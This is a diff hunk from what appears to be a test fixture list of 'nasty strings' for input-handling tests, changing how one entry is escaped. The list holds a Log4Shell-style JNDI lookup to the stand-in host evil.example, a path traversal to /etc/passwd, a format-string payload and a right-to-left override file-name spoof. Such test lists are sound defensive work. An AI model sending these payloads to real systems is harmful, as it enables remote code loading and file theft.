@@ -9,7 +9,7 @@ export const NASTY_STRINGS = [
   '\u0000\u0007\u001b[31mred\u001b[0m\r\n',
   '\u202Egnp.exe',
   '../../../../etc/passwd',
-  '${jndi:ldap://evil.example/a}',
+  '\u0024{jndi:ldap://evil.example/a}',
   '%s%s%s%n',
   'ns://a:b:c::d',
   '😀'.repeat(200),
